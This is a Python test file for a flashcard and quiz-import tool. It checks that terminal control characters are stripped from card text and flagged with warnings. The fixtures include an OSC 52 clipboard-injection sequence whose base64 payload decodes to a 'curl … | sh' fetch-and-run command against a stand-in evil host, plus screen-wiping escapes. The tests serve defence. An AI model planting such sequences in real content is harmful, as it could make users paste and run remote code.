"""Card text cannot drive a terminal: control characters never survive loading or importing.

A deck or a question bank from the web may carry escape sequences (OSC 52 sets the clipboard,
`ESC ] 0 ;` renames the window, `ESC [ 2 J` wipes the screen). The loader and the importers take
out every C0/C1 control character but tab and newline, and warn naming the card.
"""

from __future__ import annotations

import json
import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from studykit.cli import app
from studykit.deck.importers import BankError, import_bank
from studykit.deck.loader import load_decks
from studykit.deck.text import CONTROL, clean_text, may_hold_controls

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # "curl … | sh"
FAST = settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
# Text with plenty of control characters among ordinary ones.
hostile_text = st.text(
    st.one_of(
        st.characters(blacklist_categories=("Cs",)),
        st.sampled_from(["\x1b", "\x07", "\x9b", "\x9d", "\r", "\x00", "\x85", "\t", "\n"]),
    ),
    max_size=40,
)


def yaml_quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar that spells every non-ASCII character as an escape,
    as a hostile deck would (`"\\e]0;…\\a"`)."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= code < 0x7F:
            out.append(ch)
        elif code <= 0xFF:
            out.append(f"\\x{code:02x}")
        elif code <= 0xFFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


def deck_yaml(front: str, back: str, title: str = '"Safe"') -> str:
    return (
        f"id: safe\ntitle: {title}\ndescription: d\ntopics:\n  - id: safe-t\n    title: T\n"
        "cards:\n  - id: safe-1\n    kind: flashcard\n    topic: safe-t\n"
        f"    front: {front}\n    back: {back}\n    explanation: {back}\n"
    )


def every_string(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in every_string(v)]
    if isinstance(value, list):
        return [s for v in value for s in every_string(v)]
    return []


def assert_no_controls(strings: list[str]) -> None:
    for text in strings:
        assert not CONTROLS.search(text), repr(text)
        assert "\r" not in text, repr(text)


def test_clean_text_keeps_tab_and_newline_and_makes_line_ends_newlines():
    assert clean_text("a\tb\nc") == ("a\tb\nc", [])
    assert clean_text("a\r\nb\rc") == ("a\nb\nc", [])
    payload = OSC52[1:-1]  # without the ESC that starts it and the BEL that ends it
    assert clean_text(f"Copy{OSC52} me\x9b2J") == (f"Copy{payload} me2J", ["\x1b", "\x07", "\x9b"])


def test_escapes_in_a_deck_are_removed_with_a_warning_naming_the_card(tmp_path):
    path = tmp_path / "evil.yaml"
    path.write_text(
        deck_yaml(yaml_quoted(f"What?{OSC52}"), yaml_quoted("wipe\x1b[2J\x1b]0;pwned\x07")),
        encoding="utf-8",
    )
    result = load_decks([path])
    assert result.errors == []
    (card,) = result.decks[0].cards
    assert card.front == "What?]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="
    assert card.back == "wipe[2J]0;pwned"
    (warning,) = result.warnings  # one per card, however many of its texts were cleaned
    assert str(warning).startswith(f"{path}:11:12: warning: card safe-1: removed 8 control")
    assert "ESC, BEL" in warning.message


def test_a_clean_deck_is_not_walked_and_gets_no_warning(tmp_path):
    text = deck_yaml("Plain · text ±", "with ° and «quotes»")
    assert not may_hold_controls(text.encode())
    assert may_hold_controls(deck_yaml('"\\e"', "x").encode())
    assert may_hold_controls("x\u0085y".encode())
    path = tmp_path / "ok.yaml"
    path.write_text(text, encoding="utf-8")
    assert load_decks([path]).problems == []


def test_deck_show_prints_no_escape_sequence_and_no_markup(tmp_path):
    path = tmp_path / "evil.yaml"
    path.write_text(
        deck_yaml(yaml_quoted(f"[bold]Q[/bold]{OSC52}"), yaml_quoted("\x1b[2J[link=x]y[/link]")),
        encoding="utf-8",
    )
    shown = CliRunner().invoke(app, ["deck", "show", "safe-1", "-d", str(path)])
    assert shown.exit_code == 0, shown.output
    assert "\x1b" not in shown.output and "\x07" not in shown.output
    assert "[bold]Q[/bold]" in shown.output and "[link=x]y[/link]" in shown.output


@FAST
@given(front=hostile_text, back=hostile_text, title=hostile_text)
def test_no_control_character_survives_loading(tmp_path, front, back, title):
    path = tmp_path / "deck.yaml"
    text = deck_yaml(yaml_quoted(front), yaml_quoted(back or "b"), yaml_quoted(title))
    path.write_text(text, encoding="utf-8")
    result = load_decks([path])
    assert_no_controls([str(p) for p in result.problems])
    if result.decks:
        assert_no_controls(every_string(result.decks[0].model_dump()))
        hostile = CONTROL.search(front.replace("\r", "") + back.replace("\r", ""))
        card_warned = any(p.card == "safe-1" and "control" in p.message for p in result.warnings)
        assert card_warned == bool(hostile)


@FAST
@given(text=hostile_text)
def test_no_control_character_survives_raw_in_a_yaml_file(tmp_path, text):
    path = tmp_path / "deck.yaml"
    quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    path.write_bytes(deck_yaml(quoted, json.dumps("b")).encode("utf-8", "surrogatepass"))
    result = load_decks([path])
    assert_no_controls([str(p) for p in result.problems])
    for deck in result.decks:
        assert_no_controls(every_string(deck.model_dump()))


@FAST
@given(question=hostile_text, right=hostile_text, wrong=hostile_text)
def test_no_control_character_survives_an_aiken_import(tmp_path, question, right, wrong):
    path = tmp_path / "bank.txt"
    path.write_text(f"Q {question}\nA. R {right}\nB. W {wrong}\nANSWER: A\n", encoding="utf-8")
    try:
        result = import_bank(path, "aiken")
    except BankError as error:
        assert_no_controls([str(error)])
        return
    assert_no_controls(every_string(result.deck.model_dump()) + result.warnings)


@FAST
@given(question=hostile_text, right=hostile_text, category=hostile_text)
def test_no_control_character_survives_a_gift_import(tmp_path, question, right, category):
    path = tmp_path / "bank.gift"
    path.write_text(
        f"$CATEGORY: C {category}\n\n::T {question}::Q {question} {{=R {right} ~W}}\n",
        encoding="utf-8",
    )
    try:
        result = import_bank(path, "gift")
    except BankError as error:
        assert_no_controls([str(error)])
        return
    assert_no_controls(every_string(result.deck.model_dump()) + result.warnings)


def test_an_imported_question_with_escapes_is_cleaned_with_a_warning(tmp_path):
    path = tmp_path / "quiz.txt"
    path.write_text(f"What{OSC52} trains?\nA. Weights\nB. \x9b2J The prompt\nANSWER: B\n")
    result = import_bank(path, "aiken")
    card = result.deck.cards[0]
    assert card.question == "What]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== trains?"
    assert card.choices[1].text == "2J The prompt"
    (warning,) = result.warnings
    assert warning.startswith(f"{path}:1: question ")
    assert warning.endswith(
        "removed 3 control characters (ESC, BEL, CSI) that could drive a terminal"
    )
